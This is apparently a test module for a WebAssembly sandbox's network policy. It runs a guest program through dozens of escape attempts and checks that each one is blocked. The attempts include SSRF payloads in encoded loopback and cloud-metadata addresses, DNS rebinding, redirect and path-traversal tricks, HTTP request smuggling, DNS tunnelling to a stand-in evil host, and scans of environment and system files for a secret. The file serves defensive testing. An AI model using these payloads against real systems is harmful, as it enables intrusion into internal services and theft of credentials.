"""Attempts of a guest to reach what it may not, or to send out what it should not, in one table.

`python -m tests.machine.network.attempts` runs them and prints the table as Markdown, as in
docs/threat-model.md; `test_attempts.py` compares both with the results here. The guest runs real
programs; the servers are on loopback. "internal" is a service of the host that no attempt may
reach; its port is `INTERNAL`. The policy is in `policy` below.
"""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from tests.machine.network.servers import server
from wasmsand.machine.command import CommandRequest
from wasmsand.machine.machine import Machine, MachineOptions
from wasmsand.machine.network.policy import Budget, NetworkPolicy, policy_of

SECRET = "s3cret-of-the-host"
OWN = "ECONNREFUSED"
NOT_FOUND = "name not found"
UNREACHABLE = "ENETUNREACH"
DROPPED = "sent, and dropped"
BYTES_OUT = 1 << 20


@dataclass(frozen=True)
class Attempt:
    """One attempt: an expression of the guest's program, and what it gives."""

    what: str
    program: str
    result: str


def _get(what: str, url: str, result: str) -> Attempt:
    return Attempt(what, f"get({url!r})", result)


ATTEMPTS = (
    # Addresses of the host, in every form.
    _get("`http://127.0.0.1:INTERNAL/`", "http://127.0.0.1:INTERNAL/", OWN),
    _get("the same in decimal, `http://2130706433/`", "http://2130706433:INTERNAL/", OWN),
    _get("in octal, `http://0177.0.0.1/`", "http://0177.0.0.1:INTERNAL/", OWN),
    _get("in hexadecimal, `http://0x7f000001/`", "http://0x7f000001:INTERNAL/", OWN),
    _get("shortened, `http://127.1/`", "http://127.1:INTERNAL/", OWN),
    _get("`http://0.0.0.0/`", "http://0.0.0.0:INTERNAL/", OWN),
    _get("`http://localhost/`", "http://localhost:INTERNAL/", OWN),
    _get("`http://[::1]/`", "http://[::1]:INTERNAL/", OWN),
    _get("IPv4-mapped, `http://[::ffff:127.0.0.1]/`", "http://[::ffff:127.0.0.1]:INTERNAL/", OWN),
    _get("NAT64, `http://[64:ff9b::7f00:1]/`", "http://[64:ff9b::7f00:1]:INTERNAL/", UNREACHABLE),
    _get("6to4, `http://[2002:7f00:1::]/`", "http://[2002:7f00:1::]:INTERNAL/", UNREACHABLE),
    _get("a private address, `http://10.0.0.1/`", "http://10.0.0.1/", UNREACHABLE),
    _get("`http://[::ffff:192.168.0.1]/`", "http://[::ffff:192.168.0.1]/", UNREACHABLE),
    _get("cloud metadata, `http://169.254.169.254/`", "http://169.254.169.254/", UNREACHABLE),
    _get("the same in decimal, `http://2852039166/`", "http://2852039166/", UNREACHABLE),
    _get("`http://[fd00:ec2::254]/`", "http://[fd00:ec2::254]/", UNREACHABLE),
    _get("link-local, `http://[fe80::1]/`", "http://[fe80::1]/", UNREACHABLE),
    _get("a public address without a name, `http://8.8.8.8/`", "http://8.8.8.8/", UNREACHABLE),
    Attempt("the address of a name, at a port that is not allowed",
            "tcp(address('a.wild.test'), 22)", UNREACHABLE),
    Attempt("an address of 198.18.0.0/15 that stands for no name", "tcp('198.18.77.77', 80)",
            "EHOSTUNREACH"),
    # Names.
    _get("a name that no rule allows", "http://evil.test/", NOT_FOUND),
    _get("`allowed.test.evil.test`", "http://allowed.test.evil.test/", NOT_FOUND),
    _get("`notallowed.test`", "http://notallowed.test/", NOT_FOUND),
    _get("`wild.test`, with a rule for `*.wild.test:80`", "http://wild.test/", NOT_FOUND),
    _get("`ALLOWED.TEST.`: the same name", "http://ALLOWED.TEST./page", "200 page"),
    Attempt("userinfo, `http://allowed.test@evil.test/`",
            "get('http://' + urlsplit('http://allowed.test@evil.test/').hostname)", NOT_FOUND),
    Attempt("a name of 300 characters, a part of 64, a part with NUL",
            "', '.join(sorted({lookup('a.' * 150 + 'wild.test'), lookup('b' * 64 + '.wild.test'),"
            " question(b'\\x05a\\x00b.c\\x04wild\\x04test')}))", "name not found, no answer"),
    Attempt("`/etc/hosts` of the guest leads a name to 10.0.0.1",
            "own_hosts('10.0.0.1 trick.test', 'http://trick.test/')", UNREACHABLE),
    # Allowed names with hostile answers.
    _get("an allowed name that leads to 127.0.0.1", "http://loop.wild.test:80/", UNREACHABLE),
    _get("that leads to `::ffff:127.0.0.1`", "http://mapped.wild.test/", UNREACHABLE),
    _get("that leads to `64:ff9b::a9fe:a9fe` (NAT64)", "http://nat64.wild.test/", UNREACHABLE),
    _get("that leads to 169.254.169.254", "http://metadata.wild.test/", UNREACHABLE),
    _get("that leads to 192.168.0.1 and 10.0.0.1", "http://lan.wild.test/", UNREACHABLE),
    _get("rebinding: public at the look-up, 127.0.0.1 at the connection",
         "http://rebind.wild.test/", UNREACHABLE),
    # Redirects.
    _get("redirect to `http://127.0.0.1:INTERNAL/`", "http://allowed.test/to/127.0.0.1:INTERNAL",
         OWN),
    _get("redirect to cloud metadata", "http://allowed.test/to/169.254.169.254", UNREACHABLE),
    _get("redirect to an allowed name that leads to 127.0.0.1",
         "http://allowed.test/to/loop.wild.test", UNREACHABLE),
    _get("redirect to a name that no rule allows", "http://allowed.test/to/evil.test", NOT_FOUND),
    # Requests to an inspected host, of which the rule allows `GET` below `/public/`.
    _get("`GET /public/page`: allowed", "http://seen.test/public/page", "200 public page"),
    _get("`GET /private`", "http://seen.test/private", "403"),
    Attempt("`POST /public/page`", "raw('seen.test', 'POST /public/page')", "403"),
    Attempt("`GET /public/../private`", "raw('seen.test', 'GET /public/../private')", "403"),
    Attempt("`GET /public/%2e%2e/private`", "raw('seen.test', 'GET /public/%2e%2e/private')",
            "403"),
    Attempt("`GET /public/..%2fprivate`", "raw('seen.test', 'GET /public/..%2fprivate')", "403"),
    Attempt("`GET //private`", "raw('seen.test', 'GET //private')", "403"),
    Attempt("`GET http://evil.test/public/page` (absolute form)",
            "raw('seen.test', 'GET http://evil.test/public/page')",
            "421"),
    Attempt("`Host: evil.test`",
            "raw('seen.test', 'GET /public/page', 'evil.test')",
            "421"),
    Attempt("`CONNECT 127.0.0.1:INTERNAL`",
            "raw('seen.test', 'CONNECT 127.0.0.1:INTERNAL')", "403"),
    Attempt("a second request in the body of the first (smuggling)",
            "raw('seen.test', 'GET /public/page', body='Content-Length: 5\\r\\n"
            "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /private HTTP/1.1\\r\\n"
            "Host: seen.test')", "400"),
    Attempt("not HTTP at all", "raw('seen.test', 'SSH-2.0-x', plain=True)",
            "400"),
    Attempt("TLS with the SNI of another host", "tls('seen.test', 'evil.test')", "TLS refused"),
    Attempt("TLS, and the host has no valid certificate", "get('https://seen.test/public/page')",
            "502"),
    # Secrets: `secret.test` gets a header that the guest does not know.
    Attempt("the secret reaches its host", "'yes' if 'with the secret' in"
            " get('http://secret.test/check') else 'no'", "yes"),
    Attempt("redirect from its host to another allowed one, which shows all headers",
            f"{SECRET!r} in get('http://secret.test/to/allowed.test/headers')", "False"),
    Attempt("`Host: allowed.test` on a connection to its host",
            f"{SECRET!r} in raw('secret.test', 'GET /headers', 'allowed.test')", "False"),
    Attempt("the secret in environment, files and log of the guest", "everything()", "not found"),
    # Other ways out.
    Attempt("DNS tunnelling: `data.evil.test`", "lookup('data-to-send.evil.test')", NOT_FOUND),
    Attempt("a TXT question to the resolver", "question(b'\\x01a\\x04wild\\x04test', 16)",
            "no data"),
    Attempt("UDP to a name server of its own choice", "udp('8.8.8.8', 53)", DROPPED),
    Attempt("UDP to 10.0.0.1", "udp('10.0.0.1', 53)", DROPPED),
    Attempt("UDP broadcast", "udp('255.255.255.255', 9)", DROPPED),
    Attempt("TCP to the resolver", "tcp('198.18.0.1', 53)", "ECONNREFUSED"),
    Attempt("ICMP (a raw socket)", "raw_socket()", "ESOCKTNOSUPPORT"),
    Attempt("more bytes than `bytes_out`", "flood('sink.test')", "ECONNRESET"),
)  # fmt: skip

_GUEST = """
import errno, glob, json, os, socket, ssl, struct, sys, urllib.error, urllib.request
from urllib.parse import urlsplit

def named(error):
    if isinstance(error, (socket.gaierror, UnicodeError)):
        return "name not found"
    return errno.errorcode.get(getattr(error, "errno", None), repr(error))

def get(url):
    try:
        with urllib.request.urlopen(url, timeout=20) as answer:
            return f"{answer.status} {answer.read().decode().strip()}"
    except urllib.error.HTTPError as error:
        return str(error.code)
    except urllib.error.URLError as error:
        return named(error.reason)
    except (OSError, UnicodeError) as error:
        return named(error)

def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=20).close()
        return "connected"
    except OSError as error:
        return named(error)

def address(name):
    return socket.gethostbyname(name)

def lookup(name):
    try:
        return socket.gethostbyname(name)
    except (OSError, UnicodeError) as error:
        return named(error)

def question(name, kind=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(1)
        head = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
        asking.sendto(head + name + b"\\0" + struct.pack(">HH", kind, 1), ("198.18.0.1", 53))
        try:
            answer = asking.recv(4096)
        except TimeoutError:
            return "no answer"
    if answer[3] & 15:
        return "name not found"
    return "no data" if answer[6:8] == b"\\0\\0" else repr(answer)

def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(b"data", (host, port))
            return "sent, and dropped"
        except OSError as error:
            return named(error)

def raw(name, line, host=None, body="", plain=False):
    try:
        with socket.create_connection((name, 80), timeout=20) as stream:
            head = f"{line} HTTP/1.1\\r\\nHost: {host or name}\\r\\nConnection: close\\r\\n"
            text = line + "\\r\\n\\r\\n" if plain else head + (body or "") + "\\r\\n\\r\\n"
            stream.sendall(text.encode())
            answer = b""
            while piece := stream.recv(65536):
                answer += piece
    except ConnectionError:
        return "closed"
    if "headers" in line:
        return answer.decode("latin-1")
    codes = [part.split(" ")[0] for part in answer.decode("latin-1").split("HTTP/1.1 ")[1:]]
    return " ".join(codes) or "closed"

def tls(name, sni):
    try:
        with socket.create_connection((name, 443), timeout=20) as stream:
            with ssl.create_default_context().wrap_socket(stream, server_hostname=sni):
                return "connected"
    except ssl.SSLError:
        return "TLS refused"
    except OSError as error:
        return named(error)

def own_hosts(line, url):
    try:
        with open("/etc/hosts", "a") as file:
            file.write("\\n" + line + "\\n")
    except OSError:  # not writable: the resolver of this program is its own
        real = socket.getaddrinfo
        host, _, name = line.partition(" ")
        try:
            socket.getaddrinfo = lambda h, p, *r, **k: real(host if h == name else h, p, *r, **k)
            return get(url)
        finally:
            socket.getaddrinfo = real
    return get(url)

def everything():
    for path in ["/proc/self/environ", *glob.glob("/etc/**", recursive=True),
                 *glob.glob("/home/**", recursive=True), *glob.glob("/tmp/**", recursive=True)]:
        try:
            with open(path, "rb") as file:
                if SECRET in file.read():
                    return path
        except OSError:
            pass
    return "not found"

def raw_socket():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()
        return "opened"
    except OSError as error:
        return named(error)

def flood(name):
    try:
        with socket.create_connection((name, 80), timeout=20) as stream:
            for _ in range(64):
                stream.sendall(bytes(65536))
            while stream.recv(65536):
                pass
        return "sent"
    except OSError as error:
        return named(error)

SECRET = bytes.fromhex(sys.argv[1])
for program in json.loads(sys.stdin.read()):
    try:
        print(json.dumps(str(eval(program))))
    except Exception as error:
        print(json.dumps(repr(error)))
"""


@dataclass
class Servers:
    """What the servers of the host have seen."""

    internal_port: int
    web_port: int
    internal_hits: list[str] = field(default_factory=list)
    sunk: list[int] = field(default_factory=list)
    """Sizes of what `sink.test` received."""
    looked_up: list[str] = field(default_factory=list)


class _Quiet(http.server.BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass

    def answer(self, text: str, status: int = 200, **headers: str) -> None:
        body = text.encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


class _Web(_Quiet):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        if self.path.startswith("/to/"):
            self.answer("", 302, Location=f"http://{self.path.removeprefix('/to/')}")
        elif self.path == "/headers":
            self.answer(str(self.headers))
        elif self.path == "/check":
            is_known = self.headers["Authorization"] == f"Bearer {SECRET}"
            self.answer("with the secret" if is_known else "without the secret")
        elif self.path == "/public/page":
            self.answer("public page")
        else:
            self.answer(self.path.strip("/"))


@contextmanager
def _serving(handler: type[_Quiet]) -> Iterator[int]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server.server_port
        finally:
            server.shutdown()


def policy(web_port: int, sink_port: int) -> NetworkPolicy:
    """What the guest may reach."""
    web = f"127.0.0.1:{web_port}"
    names = ("allowed.test", "seen.test", "secret.test")
    return policy_of(
        allow=["allowed.test", "*.wild.test:80", "GET seen.test/public/*", "secret.test",
               "sink.test"],
        hosts=dict.fromkeys(names, web) | {"sink.test": f"127.0.0.1:{sink_port}"},
        budget=Budget(bytes_out=BYTES_OUT),
        secrets={"secret.test": {"Authorization": f"Bearer {SECRET}"}},
    )  # fmt: skip


_ANSWERS = {
    "a.wild.test": ("93.184.216.34",),
    "loop.wild.test": ("127.0.0.1",),
    "mapped.wild.test": ("::ffff:127.0.0.1",),
    "nat64.wild.test": ("64:ff9b::a9fe:a9fe",),
    "metadata.wild.test": ("169.254.169.254",),
    "lan.wild.test": ("192.168.0.1", "10.0.0.1"),
}


@contextmanager
def _guest() -> Iterator[tuple[Machine, Servers]]:
    hits: list[str] = []

    class Internal(_Quiet):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.answer("internal")

        do_POST = do_CONNECT = do_GET

    sunk: list[int] = []

    def sink(connection: socket.socket) -> None:
        while data := connection.recv(65536):
            sunk.append(len(data))

    with (
        _serving(Internal) as internal_port,
        _serving(_Web) as web_port,
        server(sink) as sink_port,
    ):
        servers = Servers(internal_port, web_port, hits, sunk)
        made = Machine(MachineOptions(network=policy(web_port, sink_port)))

        def resolve(name: str) -> tuple[str, ...]:
            servers.looked_up.append(name)
            if name == "rebind.wild.test":
                is_first = servers.looked_up.count(name) == 1
                return ("93.184.216.34",) if is_first else ("127.0.0.1",)
            return _ANSWERS.get(name, ())

        made.bridge.outgoing.resolve_with(resolve, fresh_seconds=0)
        try:
            yield made, servers
        finally:
            made.close()


def results() -> tuple[list[str], Servers]:
    """The results of all attempts, in order, and what the servers have seen."""
    with _guest() as (made, servers):
        spelled = [a.program.replace("INTERNAL", str(servers.internal_port)) for a in ATTEMPTS]
        ended = made.run(
            CommandRequest(
                ("python3", "-c", _GUEST, SECRET.encode().hex()),
                environ={"PATH": "/usr/bin:/bin", "HOME": "/home/user"},
                cwd="/home/user",
                timeout_seconds=120,
                stdin=json.dumps(spelled).encode(),
            )
        )
        assert ended.exit_code == 0, ended.stderr
        found = [json.loads(line) for line in ended.stdout.decode().splitlines()]
        assert SECRET not in ended.stderr.decode()
        assert SECRET not in repr(made.bridge.log.events())
        return found, servers


def shown(attempt: Attempt) -> str:
    """A row of the table."""
    return f"| {attempt.what} | {attempt.result} |"


def table() -> str:
    """The table as Markdown."""
    return "\n".join(["| attempt | result |", "|---|---|", *map(shown, ATTEMPTS)])


if __name__ == "__main__":
    for attempt, found in zip(ATTEMPTS, results()[0], strict=True):
        if found != attempt.result:
            print(f"{attempt.what}: {found}, not {attempt.result}")
    print(table())
